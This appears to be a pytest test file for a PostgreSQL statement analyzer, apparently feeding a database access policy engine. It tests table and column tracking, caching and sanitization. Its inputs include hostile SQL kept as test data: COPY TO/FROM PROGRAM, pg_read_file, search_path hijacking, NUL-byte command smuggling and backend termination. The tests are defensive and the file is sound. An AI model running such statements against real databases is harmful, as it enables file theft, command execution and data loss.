        ("SELECT query_to_xml(q, true, false, '') FROM queries", True),
        ("SELECT query_to_xml('SELECT 1', true, false, '')", False),
        ("SELECT query_to_xml('not sql at all', true, false, '')", True),
        ("SELECT table_to_xml(rel, true, false, '') FROM rels", True),
        ("SELECT 1", False),
    ],
)
def test_opaque(sql: str, opaque: bool) -> None:
    assert one(sql).opaque is opaque


def test_dynamic_sql_is_analyzed() -> None:
    s = one("SELECT query_to_xml('DELETE FROM secrets RETURNING *', true, false, '')")
    assert {"delete", "select"} <= s.operations
    assert s.writes == names("secrets")
    assert s.unbounded_write
    inner = "SELECT query_to_xml(''SELECT * FROM s.x'', true, false, '''')"
    nested = one(f"SELECT query_to_xml('{inner}', true, false, '')")
    assert nested.reads == names("s.x")
    s = one("SELECT table_to_xml('\"Hr\".\"Salaries\"'::regclass, true, false, '')")
    assert s.reads == frozenset({QualifiedName("Hr", "Salaries")})
    s = one("SELECT database_to_xml(true, false, '')")
    assert QualifiedName("*", "*") in s.reads


@pytest.mark.parametrize(
    ("sql", "name"),
    [
        ("PREPARE p1 AS SELECT 1", "p1"),
        ('EXECUTE "P2"', "P2"),
        ("DEALLOCATE PREPARE p3", "p3"),
        ("DEALLOCATE ALL", None),
        ("SELECT 1", None),
    ],
)
def test_prepared_name(sql: str, name: str | None) -> None:
    assert one(sql).prepared_name == name


# --- column references --------------------------------------------------------------------


def test_columns_by_clause() -> None:
    s = one(
        "SELECT c.name, count(*) FROM customers c JOIN orders o ON o.cid = c.id "
        "WHERE c.ssn LIKE '1%' GROUP BY c.name HAVING sum(o.total) > 10 ORDER BY c.region"
    )
    assert cols(s) == {
        ("c", "name", "select"),
        ("o", "cid", "join"),
        ("c", "id", "join"),
        ("c", "ssn", "where"),
        ("c", "name", "group"),
        ("o", "total", "having"),
        ("c", "region", "order"),
    }
    assert dict(s.aliases) == {"c": q("customers"), "o": q("orders")}


def test_star_and_qualified_star() -> None:
    assert cols(one("SELECT * FROM t")) == {(None, "*", "select")}
    assert cols(one("SELECT t.* FROM t")) == {("t", "*", "select")}
    assert cols(one("SELECT s.t.* FROM s.t")) == {("s.t", "*", "select")}
    assert cols(one("SELECT s.t.a FROM s.t")) == {("s.t", "a", "select")}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT c FROM customers c",
        "SELECT row_to_json(c) FROM customers c",
        "SELECT to_jsonb(c) FROM customers AS c",
        "SELECT c::text FROM customers c",
        "SELECT (c).ssn FROM customers c",
        "SELECT ssn(c) FROM customers c",
        "SELECT json_agg(c) FROM customers c",
        "SELECT x FROM (SELECT c FROM customers c) AS s(x)",
    ],
)
def test_whole_row_references(sql: str) -> None:
    s = one(sql)
    assert ColumnRef("c", "*", "select") in s.columns
    assert s.reads == names("customers")


def test_whole_row_of_unaliased_table_and_in_where() -> None:
    s = one("SELECT 1 FROM customers WHERE customers::text LIKE '%123%'")
    assert ("customers", "*", "where") in cols(s)
    s = one("SELECT c FROM t")  # "c" is no range variable here: a plain column
    assert cols(s) == {(None, "c", "select")}


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT ssn FROM customers", {(None, "ssn", "select", True)}),
        ("SELECT ssn AS x FROM customers", {(None, "ssn", "select", True)}),
        ("SELECT upper(ssn) FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT ssn || '' FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT substr(ssn, 1, 3) FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT ssn::text FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT string_agg(ssn, ',') FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT array_agg(ssn) FROM customers", {(None, "ssn", "select", False)}),
        ("SELECT (SELECT ssn FROM customers LIMIT 1)", {(None, "ssn", "select", False)}),
        (
            "SELECT CASE WHEN ssn LIKE '1%' THEN 1 END FROM customers",
            {(None, "ssn", "select", False)},
        ),
        (
            "SELECT x FROM (SELECT ssn AS x FROM customers) s",
            {(None, "x", "select", True), (None, "ssn", "select", True)},
        ),
        (
            "WITH s AS (SELECT ssn FROM customers) SELECT ssn FROM s",
            {(None, "ssn", "select", True)},
        ),
        (
            "SELECT ssn FROM customers UNION SELECT 'x'",
            {(None, "ssn", "select", False)},
        ),
        (
            "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING ssn",
            {
                ("customers", "name", "set", False),
                (None, "id", "where", False),
                (None, "ssn", "returning", True),
            },
        ),
        (
            "SELECT 1 FROM customers WHERE ssn LIKE '1%'",
            {(None, "ssn", "where", False)},
        ),
    ],
)
def test_masking_shapes(sql: str, expected: set[tuple[str | None, str, str, bool]]) -> None:
    s = one(sql)
    assert {(c.relation, c.column, c.clause, c.direct) for c in s.columns} == expected


def test_subquery_output_takes_the_predicate_clause() -> None:
    s = one("SELECT id FROM t WHERE '123' IN (SELECT ssn FROM customers WHERE name = 'x')")
    assert (None, "ssn", "where") in cols(s)
    assert (None, "name", "where") in cols(s)
    s = one("SELECT id FROM t ORDER BY (SELECT ssn FROM customers LIMIT 1)")
    assert (None, "ssn", "order") in cols(s)


def test_stored_query_output_is_values() -> None:
    assert (None, "ssn", "values") in cols(one("INSERT INTO mine SELECT ssn FROM customers"))
    assert (None, "ssn", "values") in cols(one("CREATE TABLE mine AS SELECT ssn FROM customers"))
    assert (None, "ssn", "values") in cols(one("SELECT ssn INTO mine FROM customers"))
    assert (None, "ssn", "values") in cols(one("CREATE VIEW v AS SELECT ssn FROM customers"))
    assert ("mine", "a", "values") in cols(one("INSERT INTO mine (a) VALUES (1)"))
    assert (None, "ssn", "values") in cols(one("INSERT INTO mine VALUES ((SELECT ssn FROM c))"))


def test_positional_order_and_group_by() -> None:
    s = one("SELECT ssn, name FROM customers ORDER BY 1")
    assert {(None, "ssn", "order"), (None, "name", "order")} <= cols(s)
    s = one("SELECT ssn, count(*) FROM customers GROUP BY 1")
    assert (None, "ssn", "group") in cols(s)
    s = one("SELECT DISTINCT ON (1) ssn FROM customers")
    assert (None, "ssn", "group") in cols(s)
    s = one("SELECT * FROM customers ORDER BY 2")
    assert (None, "*", "order") in cols(s)


def test_other_clauses() -> None:
    s = one("SELECT rank() OVER (PARTITION BY region ORDER BY ssn) FROM customers")
    assert {(None, "region", "group"), (None, "ssn", "order")} <= cols(s)
    s = one("SELECT count(*) FILTER (WHERE ssn LIKE '1%') FROM customers")
    assert (None, "ssn", "where") in cols(s)
    s = one("SELECT string_agg(name, ',' ORDER BY ssn) FROM customers")
    assert (None, "ssn", "order") in cols(s)
    s = one("SELECT * FROM t JOIN u USING (id, ssn)")
    assert {(None, "id", "join"), (None, "ssn", "join")} <= cols(s)
    s = one("SELECT * FROM t LIMIT (SELECT n FROM config)")
    assert (None, "n", "other") in cols(s)


def test_dml_columns() -> None:
    s = one("UPDATE customers c SET ssn = upper(c.name) WHERE c.id = 1")
    assert cols(s) == {("c", "ssn", "set"), ("c", "name", "set"), ("c", "id", "where")}
    s = one("INSERT INTO t (a, b) SELECT x, y FROM u ON CONFLICT (a) DO UPDATE SET b = excluded.b")
    assert {("t", "a", "values"), ("t", "b", "values"), ("t", "b", "set")} <= cols(s)
    assert ("excluded", "b", "set") in cols(s)
    assert ("excluded", q("t")) in s.aliases
    s = one("DELETE FROM t RETURNING old.ssn")
    assert ("old", "ssn", "returning") in cols(s)
    assert ("old", q("t")) in s.aliases
    s = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET a = s.a")
    assert {("t", "id", "join"), ("s", "x", "where"), ("t", "a", "set"), ("s", "a", "set")} <= cols(
        s
    )


def test_copy_columns() -> None:
    assert cols(one("COPY customers TO STDOUT")) == {("customers", "*", "select")}
    assert cols(one("COPY customers (ssn) TO STDOUT")) == {("customers", "ssn", "select")}
    assert cols(one("COPY customers (ssn) FROM STDIN")) == {("customers", "ssn", "values")}
    s = one("COPY (SELECT ssn FROM customers) TO STDOUT")
    assert [(c.column, c.direct) for c in s.columns] == [("ssn", False)]


# --- names, identifiers, search_path ------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "reads"),
    [
        ('SELECT * FROM "Orders"', {QualifiedName(None, "Orders")}),
        ("SELECT * FROM Orders", {QualifiedName(None, "orders")}),
        ("SELECT * FROM ORDERS", {QualifiedName(None, "orders")}),
        ('SELECT * FROM "Sales"."Orders"', {QualifiedName("Sales", "Orders")}),
        ('SELECT * FROM Sales."Orders"', {QualifiedName("sales", "Orders")}),
        ('SELECT * FROM "public"."orders"', {QualifiedName("public", "orders")}),
        ('SELECT * FROM "my.table"', {QualifiedName(None, "my.table")}),
        ('SELECT * FROM "we""ird"', {QualifiedName(None, 'we"ird')}),
        ('SELECT * FROM U&"\\0073ecrets"', {QualifiedName(None, "secrets")}),
        ("SELECT * FROM app.public.t", {QualifiedName("public", "t")}),
        ("SELECT * FROM pg_temp.t", {QualifiedName("pg_temp", "t")}),
        ("SELECT * FROM pg_catalog.pg_authid", {QualifiedName("pg_catalog", "pg_authid")}),
        ("SELECT * FROM pg_authid", {QualifiedName(None, "pg_authid")}),
        ("SELECT * FROM ONLY t", {QualifiedName(None, "t")}),
        ("SELECT * FROM /* x */ t /* y */", {QualifiedName(None, "t")}),
    ],
)
def test_identifiers(sql: str, reads: set[QualifiedName]) -> None:
    assert one(sql).reads == frozenset(reads)


@pytest.mark.parametrize(
    ("sql", "functions"),
    [
        ("SELECT PG_READ_FILE('x')", {QualifiedName(None, "pg_read_file")}),
        ("SELECT \"PG_READ_FILE\"('x')", {QualifiedName(None, "PG_READ_FILE")}),
        ("SELECT pg_catalog.pg_read_file('x')", {QualifiedName("pg_catalog", "pg_read_file")}),
        ('SELECT "Evil".f()', {QualifiedName("Evil", "f")}),
        (
            "SELECT EXTRACT(year FROM now())",
            {QualifiedName("pg_catalog", "extract"), QualifiedName(None, "now")},
        ),
    ],
)
def test_function_names(sql: str, functions: set[QualifiedName]) -> None:
    assert one(sql).functions == frozenset(functions)


def test_qualified_name_str() -> None:
    assert str(QualifiedName("s", "t")) == "s.t"
    assert str(QualifiedName(None, "t")) == "t"


def test_temp_tables() -> None:
    assert one("CREATE TEMP TABLE x (a int)").writes == names("pg_temp.x")
    assert one("CREATE TEMPORARY TABLE x AS SELECT 1").writes == names("pg_temp.x")
    assert one("SELECT 1 INTO TEMP x").writes == names("pg_temp.x")
    assert one("CREATE TEMP VIEW v AS SELECT * FROM t").writes == names("pg_temp.v")
    assert one("CREATE TABLE pg_temp.x (a int)").writes == names("pg_temp.x")
    # a temp table may shadow a real one: the name stays unqualified for the caller
    assert one("SELECT * FROM customers").reads == names("customers")


def test_search_path_tricks() -> None:
    s = one("SET search_path = evil, pg_catalog, public")
    assert {"set", "set_search_path"} == s.operations
    s = one("SELECT set_config('search_path', 'evil', false)")
    assert "set_search_path" in s.operations
    # unqualified names are reported unqualified: resolution is the caller's job
    s = one("SELECT * FROM secrets")
    assert s.reads == {QualifiedName(None, "secrets")}
    s = one("SELECT pg_read_file('x')")
    assert s.functions == {QualifiedName(None, "pg_read_file")}
    s = one("CREATE FUNCTION evil.now() RETURNS int LANGUAGE sql AS 'SELECT 1'")
    assert s.operations == {"ddl", "ddl:create_function"}


# --- several statements, errors -----------------------------------------------------------


def test_several_statements() -> None:
    sql = "SELECT 1; /* c */ DELETE FROM t;\n\n  UPDATE u SET a = 'x;y' WHERE b = $$;$$ ; "
    result = analyze(sql)
    assert [s.text for s in result] == [
        "SELECT 1",
        "DELETE FROM t",
        "UPDATE u SET a = 'x;y' WHERE b = $$;$$",
    ]
    assert [s.command for s in result] == ["select", "delete", "update"]
    assert result[1].writes == names("t")
    assert result[1].unbounded_write


def test_create_function_then_call() -> None:
    created, called = analyze(
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$DELETE FROM t$$; SELECT f()"
    )
    assert created.operations == {"ddl", "ddl:create_function"}
    assert called.functions == names("f")


def test_begin_atomic_body_is_one_statement() -> None:
    sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END"
    (s,) = analyze(sql)
    assert s.text == sql


@pytest.mark.parametrize("sql", ["", "   ", ";", ";;", "-- only a comment", "/* c */"])
def test_empty(sql: str) -> None:
    assert analyze(sql) == ()


@pytest.mark.parametrize(
    "sql",
    [
        "SELEC 1",
        "SELECT FROM FROM",
        "SELECT 1; DELETE",
        "SELECT 'unterminated",
        "SELECT $$unterminated",
        "/* unterminated",
        "DELETE FROM t WHERE",
        "SELECT (1",
    ],
)
def test_syntax_errors(sql: str) -> None:
    with pytest.raises(AnalysisError) as info:
        analyze(sql)
    assert info.value.sqlstate == "42601"
    assert info.value.message
    assert str(info.value) == info.value.message


def test_syntax_error_message_and_position() -> None:
    with pytest.raises(AnalysisError) as info:
        analyze("SELECT 1 FROM FROM t")
    assert info.value.message == 'syntax error at or near "FROM"'
    assert info.value.position == 15


@pytest.mark.parametrize(
    "sql", ["SELECT 'a\x00b'", "SELECT 1\x00; DROP TABLE t", "SELECT '\ud800'"]
)
def test_invalid_characters(sql: str) -> None:
    with pytest.raises(AnalysisError) as info:
        analyze(sql)
    assert info.value.sqlstate == "22021"


def test_too_deep() -> None:
    # redundant parentheses are dropped by the parser: no depth
    assert analyze("SELECT " + "(" * 2000 + "1" + ")" * 2000)[0].operations == {"select"}
    # a left-deep expression tree deeper than the walk can follow
    with pytest.raises(AnalysisError) as info:
        analyze("SELECT " + " + ".join(["1"] * 3000))
    assert info.value.sqlstate == "54001"
    # the parser's own limit
    with pytest.raises(AnalysisError) as info:
        analyze("SELECT " + "(SELECT " * 5000 + "1" + ")" * 5000)
    assert info.value.sqlstate in {"54001", "42601"}
    # long but flat is fine
    s = analyze("SELECT 1 FROM t WHERE " + " AND ".join(f"c{i} = {i}" for i in range(500)))[0]
    assert len(s.columns) == 500


# --- the cache ----------------------------------------------------------------------------


def test_cache_hits_on_same_shape() -> None:
    a = Analyzer()
    first = a.analyze("SELECT a FROM t WHERE id = 1")[0]
    second = a.analyze("SELECT a FROM t WHERE id = 2")[0]
    assert (a.hits, a.misses) == (1, 1)
    assert second.text == "SELECT a FROM t WHERE id = 2"
    assert second.fingerprint == first.fingerprint
    assert second.reads == first.reads


def test_cache_rebuilds_text_per_statement() -> None:
    a = Analyzer()
    a.analyze("DELETE FROM t WHERE id = 1")
    both = a.analyze("DELETE FROM t WHERE id = 2; DELETE FROM t WHERE id = 3")
    assert [s.text for s in both] == ["DELETE FROM t WHERE id = 2", "DELETE FROM t WHERE id = 3"]
    assert a.hits == 2


# Pairs that differ in a security-relevant way; some share a pglast fingerprint.
CONFUSABLE = [
    ("COPY t TO STDOUT", "COPY t TO '/tmp/x'"),
    ("COPY t TO STDOUT", "COPY t TO PROGRAM 'x'"),
    ("COPY t TO '/tmp/x'", "COPY t TO PROGRAM 'x'"),
    ("COPY t FROM STDIN", "COPY t FROM PROGRAM 'x'"),
    ("SET role = a", "SET search_path = a"),
    ("SET role = a", "SET LOCAL work_mem = a"),
    ("SELECT set_config('role', 'x', false)", "SELECT set_config('application_name', 'x', false)"),
    ("SELECT set_config('search_path', 'x', false)", "SELECT set_config('role', 'x', false)"),
    ("SELECT set_config($1, 'x', false)", "SELECT set_config('application_name', 'x', false)"),
    ('SELECT * FROM "Orders"', "SELECT * FROM orders"),
    ("SELECT * FROM secret.t", "SELECT * FROM public.t"),
    ("SELECT * FROM t", "SELECT * FROM s.t"),
    ("DELETE FROM secret.t WHERE id = 1", "DELETE FROM public.t WHERE id = 1"),
    ("SELECT * FROM t FOR UPDATE", "SELECT * FROM t"),
    ("EXPLAIN DELETE FROM t", "EXPLAIN ANALYZE DELETE FROM t"),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN (ANALYZE true) DELETE FROM t"),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", "EXPLAIN (ANALYZE 1) DELETE FROM t"),
    ("SELECT f(1)", "SELECT g(1)"),
    ("SELECT f(1)", "SELECT s.f(1)"),
    ("SELECT pg_read_file('a')", "SELECT pg_ls_dir('a')"),
    ("SELECT x FROM f(1) x", "SELECT x FROM f(1) y"),
    ("SELECT c FROM customers c", "SELECT c FROM customers d"),
    ("SELECT a AS x FROM t", "SELECT b AS x FROM t"),
    ("PREPARE p AS SELECT 1", "PREPARE q AS SELECT 1"),
    ("EXECUTE p(1)", "EXECUTE q(1)"),
    ("GRANT SELECT ON t TO a", "GRANT SELECT ON s.t TO a"),
    ("CREATE TEMP TABLE x (a int)", "CREATE TABLE x (a int)"),
    (
        "SELECT query_to_xml('SELECT * FROM a', true, false, '')",
        "SELECT query_to_xml('SELECT * FROM b', true, false, '')",
    ),
    ("SELECT table_to_xml('a', true, false, '')", "SELECT table_to_xml('b', true, false, '')"),
    ("SELECT schema_to_xml('a', true, false, '')", "SELECT schema_to_xml('b', true, false, '')"),
    ("DROP TABLE a", "DROP TABLE b"),
    ("DROP TABLE s.a", "DROP TABLE a"),
    (
        "WITH d AS (DELETE FROM t RETURNING 1) SELECT 1",
        "WITH d AS (UPDATE t SET a = 1 RETURNING 1) SELECT 1",
    ),
    ("SELECT ssn FROM customers ORDER BY 1", "SELECT ssn FROM customers ORDER BY $1"),
    ("DISCARD ALL", "DISCARD PLANS"),
    ("RESET ROLE", "RESET ALL"),
    # One normalized shape (SET ROLE $1): a reset and a role switch.
    ("SET ROLE NONE", "SET ROLE admin"),
    (
        "SELECT pg_cancel_backend(pg_backend_pid())",
        "SELECT pg_cancel_backend(pg_backend_pid() + 1)",
    ),
    ("LOCK t IN ACCESS SHARE MODE", "LOCK t IN EXCLUSIVE MODE"),
]


def _without_text(s: StatementSummary) -> tuple[object, ...]:
    return (
        s.operations,
        s.reads,
        s.writes,
        s.functions,
        s.columns,
        s.unbounded_write,
        s.row_locks,
        s.set_parameters,
        s.command,
        s.deferred_operations,
        s.aliases,
        s.opaque,
        s.prepared_name,
        s.own_backend,
    )


@pytest.mark.parametrize(("first", "second"), CONFUSABLE, ids=[f"{a} | {b}" for a, b in CONFUSABLE])
def test_cache_does_not_confuse(first: str, second: str) -> None:
    fresh_first = one(first)
    fresh_second = one(second)
    for order in ((first, second), (second, first)):
        a = Analyzer()
        results = {sql: a.analyze(sql)[0] for sql in order}
        # and once more, now from the cache
        results_again = {sql: a.analyze(sql)[0] for sql in order}
        for sql, fresh in ((first, fresh_first), (second, fresh_second)):
            assert _without_text(results[sql]) == _without_text(fresh)
            assert _without_text(results_again[sql]) == _without_text(fresh)
            assert results_again[sql].text == sql


# Same summary by design: ORDER BY $1 sorts by a constant, but is reported like ORDER BY 1.
SAME_BY_DESIGN = {("SELECT ssn FROM customers ORDER BY 1", "SELECT ssn FROM customers ORDER BY $1")}


def test_confusable_pairs_really_differ() -> None:
    for first, second in CONFUSABLE:
        if (first, second) in SAME_BY_DESIGN:
            continue
        assert _without_text(one(first)) != _without_text(one(second)), (first, second)


def test_fingerprint_collisions_exist() -> None:
    # why the cache is not keyed by the bare fingerprint
    fp = pglast.parser.fingerprint
    assert fp("SELECT * FROM secret.t") == fp("SELECT * FROM public.t")
    assert fp("SELECT set_config('role','x',false)") == fp("SELECT set_config('a','x',false)")
    assert fp("SELECT x FROM f(1) x") == fp("SELECT x FROM f(1) y")
    assert fp("GRANT SELECT ON t TO a") == fp("GRANT SELECT ON t TO b")


def test_literal_dependent_statements_are_cached_by_exact_text() -> None:
    a = Analyzer()
    a.analyze("SELECT set_config('role', 'x', false)")
    a.analyze("SELECT set_config('role', 'x', false)")
    assert (a.hits, a.misses) == (1, 1)
    s = a.analyze("SELECT set_config('application_name', 'x', false)")[0]
    assert s.set_parameters == {"application_name"}
    assert a.misses == 2


def test_cache_bounds() -> None:
    a = Analyzer(max_entries=3)
    for i in range(10):
        a.analyze(f"SELECT c{i} FROM t")
    assert len(a) == 3
    assert a.analyze("SELECT c9 FROM t")[0].columns == (ColumnRef(None, "c9", "select", True),)
    assert a.hits == 1
    a.clear()
    assert len(a) == 0
    no_cache = Analyzer(max_entries=0)
    no_cache.analyze("SELECT 1")
    no_cache.analyze("SELECT 1")
    assert (no_cache.hits, no_cache.misses, len(no_cache)) == (0, 2, 0)
    short = Analyzer(max_key_length=10)
    short.analyze("SELECT a, b, c FROM t")
    assert len(short) == 0


def test_summary_is_frozen() -> None:
    s = one("SELECT 1")
    with pytest.raises(AttributeError):
        s.text = "x"  # type: ignore[misc]
    hash(QualifiedName("s", "t"))
    hash(ColumnRef(None, "a", "select"))


def test_summary_constructible_with_the_base_fields() -> None:
    # the policy engine builds summaries in its own tests with the documented fields only
    s = StatementSummary(
        text="SELECT 1",
        fingerprint="x",
        operations=frozenset({"select"}),
        reads=frozenset(),
        writes=frozenset(),
        functions=frozenset(),
        columns=(ColumnRef(None, "a", "select"),),
        unbounded_write=False,
        row_locks=False,
        set_parameters=frozenset(),
    )
    assert s.command == "" and s.deferred_operations == frozenset() and not s.opaque


@pytest.mark.parametrize(
    ("sql", "reads"),
    [
        ("SELECT * FROM t\u00a0", {QualifiedName(None, "t\u00a0")}),
        ("SELECT * FROM t\u2003 ", {QualifiedName(None, "t\u2003")}),
        ("SELECT * FROM t\u00a0; SELECT 1", {QualifiedName(None, "t\u00a0")}),
        ("SELECT * FROM t\u00a0 ; SELECT 1", {QualifiedName(None, "t\u00a0")}),
        ("\t SELECT * FROM t \n\f\v", {QualifiedName(None, "t")}),
    ],
)
def test_only_postgres_whitespace_is_trimmed(sql: str, reads: set[QualifiedName]) -> None:
    # Python's str.strip() would drop U+00A0, which the server reads as part of the name
    s = Analyzer().analyze(sql)[0]
    assert s.reads == frozenset(reads)
    assert s.text == s.text.strip(" \t\n\r\f\v")
    assert s.text in sql


def test_trailing_identifier_made_of_unicode_space() -> None:
    # "SELECT 1 \u00a0" is SELECT 1 AS "\u00a0": the alias stays part of the statement
    (s,) = analyze("SELECT 1 \u00a0")
    assert s.text == "SELECT 1 \u00a0"
    (s, _) = analyze("SELECT 1 \u00a0; SELECT 2")
    assert s.text == "SELECT 1 \u00a0"


@pytest.mark.parametrize(
    ("sql", "schemas"),
    [
        ('SET search_path TO hr, "Mixed", public', ("hr", "Mixed", "public")),
        # A string constant is one schema name, commas and all (PostgreSQL quotes it).
        ("SET search_path = 'a,b'", ("a,b",)),
        ("SET LOCAL search_path TO DEFAULT", ()),
        ("RESET search_path", ()),
        # set_config's value is split when used: unquoted names fold to lower case.
        ("SELECT set_config('search_path', 'A, \"B\"', false)", ("a", "B")),
        ("SELECT set_config('search_path', 'a,,b', false)", ("*",)),
        ("SELECT set_config('search_path', $1, false)", ("*",)),
        ("SELECT set_config($1, 'hr', false)", ("*",)),
        ("UPDATE pg_settings SET setting = 'hr' WHERE name = 'search_path'", ("*",)),
        ("SELECT 1", ()),
    ],
)
def test_search_path_values(sql: str, schemas: tuple[str, ...]) -> None:
    assert Analyzer().analyze(sql)[0].search_path == schemas


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT lo_create(0)",
        "SELECT lo_from_bytea(0, '\\xdeadbeef')",
        "SELECT lo_unlink(16400)",
        "SELECT lo_put(16400, 0, 'x')",
        "SELECT lowrite(lo_open(16400, 131072), 'x')",
    ],
)
def test_large_object_writers_write_pg_largeobject(sql: str) -> None:
    summary = one(sql)
    assert "update" in summary.operations
    assert QualifiedName("pg_catalog", "pg_largeobject") in summary.writes


def test_large_object_readers_read_pg_largeobject() -> None:
    summary = one("SELECT lo_get(16400)")
    assert QualifiedName("pg_catalog", "pg_largeobject") in summary.reads
    assert not summary.writes


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("SELECT * FROM t WHERE ssn = '123-45-6789'", "SELECT * FROM t WHERE ssn = $1"),
        ("SELECT $1, 'x' FROM t", "SELECT $1, $2 FROM t"),
        # What the normalizer leaves: comments, constants in utility statements.
        ("/* 123-45-6789 */ SELECT 1 -- 123-45-6789", "SELECT $1"),
        ("SELECT/*x*/1", "SELECT $1"),
        ("CREATE TABLE t (a text DEFAULT '123-45-6789')", "CREATE TABLE t (a text DEFAULT $1)"),
        ("PREPARE p AS SELECT $$123-45-6789$$", "PREPARE p AS SELECT $1"),
        ("SELECT 'é' AS \"ü\"", 'SELECT $1 AS "ü"'),
        # No sanitized form for text that does not parse: never the text itself.
        ("SELECT 1 '123-45-6789'", None),
        ("SELECT '\ud800'", None),
    ],
)
def test_sanitized_text(text: str, expected: str | None) -> None:
    assert sanitized_text(text) == expected


@pytest.mark.parametrize(
    ("sql", "own"),
    [
        ("SELECT pg_terminate_backend(pg_backend_pid())", {"pg_terminate_backend"}),
        (
            "SELECT pg_catalog.pg_cancel_backend(pg_catalog.pg_backend_pid())",
            {"pg_catalog.pg_cancel_backend"},
        ),
        ("SELECT pg_terminate_backend(pg_backend_pid(), 1000)", {"pg_terminate_backend"}),
        # Another pid, or one the analyzer cannot prove is the session's own: not own.
        ("SELECT pg_terminate_backend(42)", set()),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", set()),
        ("SELECT pg_terminate_backend(pg_backend_pid() + 1)", set()),
        ("SELECT pg_terminate_backend(public.pg_backend_pid())", set()),
        # Every call must target the own backend.
        ("SELECT pg_terminate_backend(pg_backend_pid()), pg_terminate_backend(7)", set()),
        (
            "SELECT pg_cancel_backend(pg_backend_pid()), pg_terminate_backend(7)",
            {"pg_cancel_backend"},
        ),
    ],
)
def test_signals_to_the_own_backend_are_told_apart(sql: str, own: set[str]) -> None:
    assert {str(f) for f in one(sql).own_backend} == own
